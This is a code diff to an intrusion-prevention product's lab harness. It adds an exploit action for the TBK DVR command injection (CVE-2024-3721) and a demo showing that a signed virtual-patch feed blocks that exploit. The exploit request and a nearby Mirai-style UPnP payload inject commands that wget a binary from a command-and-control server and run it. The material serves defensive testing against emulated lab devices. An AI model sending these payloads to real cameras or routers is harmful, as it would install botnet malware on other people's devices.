@@ -28,6 +28,7 @@ import signal
 import socket
 import socketserver
 import struct
+import shutil
 import subprocess
 import sys
 import tempfile
@@ -559,6 +560,13 @@ def act(action: str, args: list[str]) -> dict:
                 b'<NewInternalClient>`cd /var; wget http://' + C2_SERVER.encode() +
                 b'/mirai.mips`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>')
         return _http_request(args[0], 52869, "POST", "/picsdesc.xml", body, source=ATTACKER)
+    if action == "tbk":
+        # TBK DVR device.rsp command injection (CVE-2024-3721); the camera's
+        # CGI answers whatever it is asked, as the unpatched firmware does.
+        return _http_request(args[0], 80, "GET",
+                             "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc="
+                             f"cd%20/tmp;wget%20http://{C2_SERVER}/mips;sh%20mips",
+                             source=ATTACKER)
     if action == "keepalive-inject":
         return _keepalive_then_inject(args[0], ATTACKER)
     if action == "telnet-scan":
@@ -743,6 +751,7 @@ def run_lab(args) -> int:
                 if line not in shown:
                     shown.add(line)
                     print(f"      {line}")
+        failures += _virtual_patch_by_feed(lab, data_dir)
         time.sleep(1.5)   # workers publish their counters about once a second
         totals = _status_totals(data_dir)
         print(f"\nbox counters: {totals.get('inspected', 0)} packets inspected, "
@@ -785,6 +794,65 @@ def run_lab(args) -> int:
     if failures:
         print(f"{failures} check(s) failed")
     return 1 if failures else 0
+
+
+FEED_DEMO_RULES = REPO / "signatures" / "feed-demo" / "tbk-dvr.rules"
+
+
+def _virtual_patch_by_feed(lab: LabTopology, data_dir: str) -> int:
+    """The product's promise in one scene: an exploit with no firmware fix
+    reaches the camera; the vendor ships a virtual patch by signed feed; a
+    bundle signed by anyone else is refused; the genuine one is applied live
+    and the same exploit is blocked. Returns the number of failed checks."""
+    from ips import feed
+    from ips.service import request_reload
+
+    print("\nvirtual patch by signed feed (the camera's vendor has no firmware fix)")
+    failures = 0
+    before = lab.act("inet", "tbk", "192.0.2.10")
+    print(f"  {'TBK DVR command injection CVE-2024-3721, no rule yet':58} "
+          f"{'reached the camera' if before.get('ok') else 'did not reach the camera'}")
+    # Keys made for this run only: the private half of a key a real box
+    # trusts never sits next to the code (signatures/feed-keys/README).
+    work = Path(data_dir) / "feed-demo"
+    shutil.rmtree(work, ignore_errors=True)
+    for name in ("vendor", "impostor", "trusted"):
+        (work / name).mkdir(parents=True)
+    vendor_key, vendor_public = feed.generate_key(work / "vendor" / "vendor")
+    impostor_key, _ = feed.generate_key(work / "impostor" / "impostor")
+    trusted = work / "trusted"
+    (trusted / vendor_public.name).write_bytes(vendor_public.read_bytes())
+    version = (feed.installed_version(data_dir) or 0) + 1     # a --data-dir used before
+    genuine = feed.build_bundle([FEED_DEMO_RULES], vendor_key, version,
+                                work / "vendor.tar.gz", "reefguard-demo")
+    forged = feed.build_bundle([FEED_DEMO_RULES], impostor_key, version + 1,
+                               work / "forged.tar.gz", "reefguard-demo")
+    keys = feed.default_key_dirs([trusted])
+    try:
+        feed.apply_from(str(forged), data_dir, keys)
+        print("  a bundle signed by an unknown key was ACCEPTED")
+        failures += 1
+    except feed.FeedError as exc:
+        print(f"  {'bundle signed by an unknown key':58} refused ({exc})")
+    reloads = _status_totals(data_dir).get("reloads", 0)
+    result = feed.apply_from(str(genuine), data_dir, keys)
+    request_reload(data_dir)
+    deadline = time.time() + 60
+    while time.time() < deadline and _status_totals(data_dir).get("reloads", 0) <= reloads:
+        time.sleep(0.3)
+    status = result.status
+    print(f"  {'vendor bundle v1, signed, applied live':58} installed: "
+          f"{status.get('rules')} rule(s), version {status.get('version')}")
+    seen = len(read_alerts(data_dir))
+    after = lab.act("inet", "tbk", "192.0.2.10")
+    alerts = _new_alerts(data_dir, seen, ATTACKER, timeout=4.0)
+    blocked = [a for a in alerts if a.get("alert", {}).get("action") == "blocked"]
+    through = bool(after.get("ok")) or not blocked
+    failures += through
+    print(f"  {'the same exploit after the update':58} {'GOT THROUGH' if through else 'blocked'}")
+    for line in dict.fromkeys(describe_alert(a) for a in blocked):
+        print(f"      {line}")
+    return failures
 
 
 def _print_what_the_box_learned(data_dir) -> None:
